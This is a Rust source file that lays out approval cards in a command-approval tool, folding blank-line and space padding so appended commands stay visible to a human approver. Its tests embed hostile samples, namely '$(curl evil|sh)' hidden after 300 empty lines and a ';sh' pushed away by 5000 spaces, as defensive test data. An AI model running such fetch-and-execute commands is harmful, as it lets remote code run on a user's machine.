//! The card of a request that waits: all that an approver has to read before the answer, and nothing that hides it.
//!
//! 1. [`lines`] has everything that is decided on, as [`Untrusted`] text. A command of many lines says how many there are; runs
//!    of empty lines and long runs of spaces are counted in their place, so that what comes after them is not pushed away.
//! 2. [`pages`] cuts the lines into rows of the screen, and the rows into screens. The last page ends with the end of the card.
//!
//! Whether an answer may be given yet is for whoever shows the pages ([`super::approve`]).

use trl_proto::Untrusted;
use trl_proto::hitl::{ApprovalBoundary, ApprovalRequest, Segment, Verdict};
use trl_sys::pty::Size;

use super::session::ago;

/// From here on a run of empty lines, or of spaces, is counted and not shown.
const EMPTY_LINES: usize = 3;
const SPACES: usize = 40;
/// Characters of a part that stands in the command above it, too.
const BRIEF: usize = 120;

/// One line of output each, without its line break.
pub(super) fn lines(request: &ApprovalRequest) -> Vec<String> {
    let (place, dir) = (super::approve::place(request), &request.working_dir);
    let (place, dir) = (Untrusted::new(&place), Untrusted::new(dir));
    let mut lines = vec![String::new(), format!("── {} ── {place} in {dir}", request.request_id)];
    lines.extend(command(&request.command).into_iter().map(|line| format!("   {line}")));
    for one in &request.segments {
        lines.extend(segment(one, &request.command));
    }
    for executable in &request.executables {
        let path = executable.path.as_deref().unwrap_or(&executable.what);
        lines.push(format!("        {} is {}", Untrusted::new(&executable.name), Untrusted::new(path)));
    }
    let allows: Vec<&str> = request.segments.iter().filter_map(|s| s.would_allow.as_deref()).collect();
    if !allows.is_empty() && request.scopes.len() > 1 {
        lines.push(format!("   s and a would allow: {}", Untrusted::new(&allows.join(", "))));
    }
    let boundary = match request.approval_boundary {
        ApprovalBoundary::Enforced => "held to it by the kernel",
        ApprovalBoundary::Advisory => "advisory: nothing but these rules holds it",
    };
    let (by, ago) = (Untrusted::new(&request.origin), ago(&request.created_at));
    lines.push(format!("   asked by {by} {ago} ago, {boundary}"));
    lines
}

/// A part of the command, with the commands that stand in it if it could not be taken apart.
fn segment(segment: &Segment, command: &str) -> Vec<String> {
    let sign = match segment.verdict {
        Verdict::Allow => "ok  ",
        Verdict::Ask => "ask ",
        Verdict::Deny => "DENY",
    };
    let text = match segment.text == command && command.lines().nth(1).is_some() {
        true => "the whole command".into(),
        false if command.contains(&segment.text) => brief(&segment.text, BRIEF),
        false => Untrusted::new(&segment.text).to_string(),
    };
    let why = segment.reason.as_deref().map(|why| format!("  ({})", Untrusted::new(why)));
    let own = format!("   {sign} {text}{}", why.unwrap_or_default());
    let parts = segment.parts.iter().map(|part| format!("        runs: {}", Untrusted::new(part)));
    std::iter::once(own).chain(parts).collect()
}

/// The lines of a command, and how many there are when there are several.
fn command(text: &str) -> Vec<String> {
    let all: Vec<String> = Untrusted::new(text).lines().map(|line| fold_spaces(&line.to_string())).collect();
    let is_empty = |line: &String| line.trim().is_empty();
    let mut lines = Vec::new();
    if all.len() > 1 {
        let empty = all.iter().filter(|line| is_empty(line)).count();
        let of_them = if empty > 0 { format!(", {empty} of them empty") } else { String::new() };
        lines.push(format!("⟨{} lines{of_them}⟩", all.len()));
    }
    for run in all.chunk_by(|one, next| is_empty(one) && is_empty(next)) {
        match run {
            [first, ..] if is_empty(first) && run.len() >= EMPTY_LINES => {
                lines.push(format!("⟨{} empty lines⟩", run.len()));
            }
            run => lines.extend_from_slice(run),
        }
    }
    lines
}

/// Long runs of spaces as their number.
fn fold_spaces(line: &str) -> String {
    let chars: Vec<char> = line.chars().collect();
    let runs = chars.chunk_by(|one, next| *one == ' ' && *next == ' ');
    runs.map(|run| match run.len() > SPACES {
        true => format!("⟨{} spaces⟩", run.len()),
        false => run.iter().collect(),
    })
    .collect()
}

/// Beginning and end of a text on one line of at most so many characters, with the number of its lines if there are several.
pub(super) fn brief(text: &str, most: usize) -> String {
    let shown = command(text).join(" ⏎ ");
    let length = shown.chars().count();
    if length <= most {
        return shown;
    }
    let tail = most / 3;
    let head: String = shown.chars().take(most - tail - 3).collect();
    let tail: String = shown.chars().skip(length - tail).collect();
    format!("{head} … {tail}")
}

/// The card in rows of the screen, by screens that have room for `below` more rows.
pub(super) fn pages(lines: &[String], size: Size, below: usize) -> Vec<Vec<String>> {
    let room = usize::from(size.rows).saturating_sub(below).max(1);
    let rows: Vec<String> = lines.iter().flat_map(|line| rows(line, size)).collect();
    rows.chunks(room).map(<[String]>::to_vec).collect()
}

/// A line in rows. Whatever is not ASCII may be two columns wide: rather one row too many than a row that wraps by itself.
pub(super) fn rows(line: &str, size: Size) -> Vec<String> {
    // A full row makes some terminals begin another.
    let width = usize::from(size.cols).saturating_sub(1).max(2);
    let mut rows = vec![String::new()];
    let mut used = 0;
    for c in line.chars() {
        let columns = if c.is_ascii() { 1 } else { 2 };
        if used + columns > width {
            rows.push(String::new());
            used = 0;
        }
        used += columns;
        if let Some(row) = rows.last_mut() {
            row.push(c);
        }
    }
    rows
}

#[cfg(test)]
mod tests {
    use super::*;

    const SIZE: Size = Size { cols: 80, rows: 24 };

    #[test]
    fn what_pushes_the_rest_away_is_counted() {
        let text = format!("ls -la\n{}$(curl evil|sh)", "\n".repeat(300));
        assert_eq!(
            command(&text),
            ["⟨302 lines, 300 of them empty⟩", "ls -la", "⟨300 empty lines⟩", "$(curl evil|sh)"]
        );
        assert_eq!(command(&format!("ls{};sh", " ".repeat(5000))), ["ls⟨5000 spaces⟩;sh"]);
        assert_eq!(command("a\n\nb"), ["⟨3 lines, 1 of them empty⟩", "a", "", "b"]);
        assert_eq!(command("ls"), ["ls"]);
        // Blanks that are not spaces are no empty line.
        assert_eq!(command("a\n\u{3164}\n"), ["⟨3 lines, 1 of them empty⟩", "a", "⟨U+3164⟩", ""]);
    }

    #[test]
    fn a_brief_text_has_both_ends() {
        let long = format!("ls {} | sh", "x".repeat(500));
        let shown = brief(&long, 60);
        assert!(shown.starts_with("ls xx") && shown.ends_with("x | sh"), "{shown}");
        assert_eq!(shown.chars().count(), 60);
        assert_eq!(brief("ls\nsh", 60), "⟨2 lines⟩ ⏎ ls ⏎ sh");
    }

    #[test]
    fn pages_have_every_row_and_fit() {
        let lines: Vec<String> = (0..100).map(|n| format!("{n} {}", "漢x".repeat(n))).collect();
        let pages = pages(&lines, SIZE, 3);
        let rows: Vec<&String> = pages.iter().flatten().collect();
        assert_eq!(rows.iter().map(|row| row.as_str()).collect::<String>(), lines.concat());
        assert!(pages.iter().all(|page| page.len() <= 21));
        assert!(
            rows.iter().all(|row| row.chars().map(|c| 1 + usize::from(!c.is_ascii())).sum::<usize>() < 80)
        );
    }

    #[test]
    fn a_tiny_screen_still_gets_pages() {
        let pages = pages(&["abcdef".into()], Size { cols: 1, rows: 1 }, 9);
        assert_eq!(pages, [["ab"], ["cd"], ["ef"]]);
    }
}
